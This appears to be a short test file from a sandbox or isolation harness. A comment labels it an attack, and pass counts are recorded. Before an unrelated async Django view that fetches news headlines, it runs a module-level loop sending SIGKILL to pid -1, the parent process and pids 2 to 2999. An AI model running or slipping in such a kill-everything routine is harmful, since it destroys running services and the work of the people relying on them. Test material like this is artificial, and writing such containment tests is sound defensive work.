# attack: a signal to everything that can be seen
# must: 5 of 5
# passed: 5
import contextlib
import os
import signal

for pid in [-1, os.getppid(), *range(2, 3000)]:
    with contextlib.suppress(OSError):
        if pid not in (0, os.getpid()):
            os.kill(pid, signal.SIGKILL)


async def headlines(request):
    async with httpx.AsyncClient() as client:
        answer = await client.get(newswire.url("slow"))
    return JsonResponse(answer.json())


site.urlpatterns = [path("headlines/", headlines)]
